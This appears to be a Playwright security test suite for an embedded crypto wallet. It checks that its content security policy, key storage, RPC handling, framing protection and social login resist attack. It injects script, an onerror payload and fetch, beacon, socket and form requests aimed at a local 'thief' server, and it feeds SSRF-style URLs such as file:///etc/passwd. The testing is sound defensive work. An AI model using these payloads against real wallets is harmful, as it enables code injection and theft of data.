import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, type Frame } from '@playwright/test'
import { addresses, projectId } from '../addresses.ts'
import { Dapp } from '../pages/dapp.ts'
import { newEmail } from '../pages/login.ts'
import { test } from '../test.ts'

/** An attacker's server that counts requests. */
const startThief = async () => {
  const reached: string[] = []
  const server = createServer((request, response) => {
    reached.push(request.url ?? '')
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('1')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  const stop = async () => {
    const closed = new Promise((resolve) => server.close(resolve))
    // Browsers keep connections open without a request.
    server.closeAllConnections()
    await closed
  }
  return { url: `http://127.0.0.1:${port}`, reached, stop }
}

/** What an injected script would try, and the result of each attempt. */
const tryEverything = (frame: Frame, thief: string, mayLeave = true): Promise<Record<string, string>> =>
  frame.evaluate(
    async ({ url, mayLeave }) => {
      const violated: string[] = []
      document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
      const told: Record<string, string> = {}
      const attempt = async (name: string, run: () => unknown) => {
        const before = violated.length
        const outcome = await Promise.resolve()
          .then(run)
          .then(
            (value) => (value === false ? 'refused' : 'let through'),
            () => 'refused',
          )
        await new Promise((resolve) => setTimeout(resolve, 120))
        told[name] = violated.length > before ? 'refused' : outcome
      }
      const add = (tag: string, set: (element: HTMLElement) => void) => () => {
        const element = document.createElement(tag)
        set(element)
        document.body.append(element)
      }
      await attempt(
        'inline script',
        add('script', (one) => one.append('window.ran = true')),
      )
      await attempt(
        'foreign script',
        add('script', (one) => Object.assign(one, { src: `${url}/script` })),
      )
      await attempt('eval', () => new Function('return 1')())
      await attempt('innerHTML', () => {
        document.body.innerHTML = '<img src=x onerror="window.ran = true">'
      })
      await attempt('a policy of its own', () => {
        const { trustedTypes } = window as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): unknown }
        }
        trustedTypes.createPolicy('thief', { createHTML: (text: string) => text })
      })
      await attempt('fetch', () => fetch(`${url}/fetch`, { mode: 'no-cors' }))
      await attempt('beacon', () => navigator.sendBeacon(`${url}/beacon`, 'x'))
      await attempt('socket', () => new WebSocket(`${url.replace('http', 'ws')}/socket`))
      await attempt(
        'image',
        add('img', (one) => Object.assign(one, { src: `${url}/image` })),
      )
      await attempt(
        'style',
        add('link', (one) => Object.assign(one, { rel: 'stylesheet', href: `${url}/style` })),
      )
      await attempt(
        'frame',
        add('iframe', (one) => Object.assign(one, { src: `${url}/frame` })),
      )
      await attempt('worker', () => new Worker(`${url}/worker`))
      // If nothing stops it, this attempt navigates the document away.
      if (mayLeave)
        await attempt('form', () => {
          const form = document.createElement('form')
          Object.assign(form, { action: `${url}/form`, method: 'POST', target: '_self' })
          document.body.append(form)
          form.submit()
        })
      told.ran = String('ran' in window)
      return told
    },
    { url: thief, mayLeave },
  )

test('[threats 6, 7] an injected script in the wallet origin cannot run code or reach another host', async ({
  page,
}) => {
  const thief = await startThief()
  const dapp = await Dapp.open(page)
  await dapp.untilReady()
  if (!dapp.frame) throw new Error('There is no frame.')
  const told = await tryEverything(dapp.frame, thief.url)
  const { ran, ...attempts } = told
  expect(new Set(Object.values(attempts)), JSON.stringify(told)).toEqual(new Set(['refused']))
  expect(ran).toBe('false')
  expect(thief.reached).toEqual([])

  // Control: without the policy, the same script succeeds.
  await page.route(`${addresses.wallet}/sdk?**`, async (route) => {
    // Browsers resolve every name under localhost to this machine; Node doesn't.
    const response = await route.fetch({ url: route.request().url().replace('wallet.', '') })
    const { 'content-security-policy': _, ...headers } = response.headers()
    const body = (await response.text()).replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, '')
    await route.fulfill({ response, headers, body })
  })
  const bare = await Dapp.open(page, { query: '&bare=1' })
  await bare.untilReady()
  if (!bare.frame) throw new Error('There is no frame.')
  const { ran: ranBare, ...open } = await tryEverything(bare.frame, thief.url, false)
  expect(ranBare).toBe('true')
  expect(Object.values(open).filter((outcome) => outcome === 'let through').length).toBeGreaterThan(8)
  expect(thief.reached.length).toBeGreaterThan(3)
  await thief.stop()
})

test('[threat 7] stored wallet keys cannot be exported from the browser', async ({ page }) => {
  const dapp = await Dapp.open(page)
  await dapp.logIn(newEmail())
  const kept = await dapp.frame?.evaluate(async () => {
    const names = (await indexedDB.databases()).map(({ name }) => name ?? '')
    const values: unknown[] = []
    for (const name of names) {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const open = indexedDB.open(name)
        open.onsuccess = () => resolve(open.result)
        open.onerror = () => reject(open.error)
      })
      for (const store of db.objectStoreNames) {
        values.push(
          ...(await new Promise<unknown[]>((resolve) => {
            const all = db.transaction(store).objectStore(store).getAll()
            all.onsuccess = () => resolve(all.result)
          })),
        )
      }
    }
    const keys: CryptoKey[] = []
    const walk = (value: unknown): void => {
      if (value instanceof CryptoKey) keys.push(value)
      else if (typeof value === 'object' && value !== null) for (const one of Object.values(value)) walk(one)
    }
    walk(values)
    const secret = keys.filter(({ type }) => type !== 'public')
    const exported = await Promise.all(
      secret.map((key) =>
        crypto.subtle.exportKey(key.type === 'private' ? 'pkcs8' : 'raw', key).then(
          () => true,
          () => false,
        ),
      ),
    )
    return { secrets: secret.length, taken: exported.filter(Boolean).length, local: Object.keys(localStorage).length }
  })
  expect(kept).toEqual({ secrets: 2, taken: 0, local: 0 })
})

test("[threat 28] the page's node address is never used", async ({ page }) => {
  const thief = await startThief()
  const reached: string[] = []
  page.on('request', (request) => {
    if (request.frame() !== page.mainFrame()) reached.push(new URL(request.url()).origin)
  })
  const rpcUrl = `${thief.url}/node`
  const dapp = await Dapp.open(page, { query: `&rpcUrl=${encodeURIComponent(rpcUrl)}` })
  const address = await dapp.logIn(newEmail())
  await dapp.ask('SWITCH_NETWORK', { chainId: 'eip155:1329', rpcUrl })
  await dapp.ask('GET_USER', { chainId: 1329, rpcUrl })
  const { type } = await dapp.rpc('eth_getBalance', [address, 'latest'], { rpcUrl })
  expect(type).toBe('@w3m-frame/RPC_REQUEST_SUCCESS')
  for (const url of ['http://169.254.169.254/latest', 'file:///etc/passwd', 'http://[::ffff:127.0.0.1]:9/']) {
    await dapp.rpc('eth_blockNumber', undefined, { rpcUrl: url })
  }
  expect(thief.reached).toEqual([])
  expect([...new Set(reached)]).toEqual([addresses.wallet])
  await thief.stop()
})

test('[threat 38] pages that show a secret phrase cannot be framed', async ({ page }) => {
  for (const path of ['export', 'settings', 'dashboard', 'approve', 'freeze', 'device', 'undo', 'keep']) {
    const host = `${addresses.site}/around-${path}`
    const src = `${addresses.wallet}/${path}?projectId=${projectId}`
    await page.route(host, (route) =>
      route.fulfill({ contentType: 'text/html', headers: {}, body: `<iframe src="${src}"></iframe>` }),
    )
    await page.goto(host)
    await page.waitForTimeout(400)
    const framed = page.frames()[1]
    expect(
      await framed
        ?.locator('#root, main')
        .count()
        .catch(() => 0),
      path,
    ).toBe(0)
  }
  // Control: at top level it is there.
  await page.goto(`${addresses.wallet}/export?projectId=${projectId}`)
  await expect(page.getByRole('heading', { name: 'Your wallet' })).toBeVisible()
})

test('[threat 20] a forged login result logs no one in', async ({ page }) => {
  const dapp = await Dapp.open(page)
  await dapp.untilReady()
  const { payload } = await dapp.ask('GET_SOCIAL_REDIRECT_URI', { provider: 'github' })
  expect((payload as { uri: string }).uri).toMatch(/^http/)
  for (const uri of ['?state=made-up&code=made-up', `${addresses.wallet}/callback/github?state=x&code=y`]) {
    expect((await dapp.ask('CONNECT_SOCIAL', { uri })).type).toBe('@w3m-frame/CONNECT_SOCIAL_ERROR')
  }
  expect((await dapp.ask('IS_CONNECTED')).payload).toEqual({ isConnected: false })
})
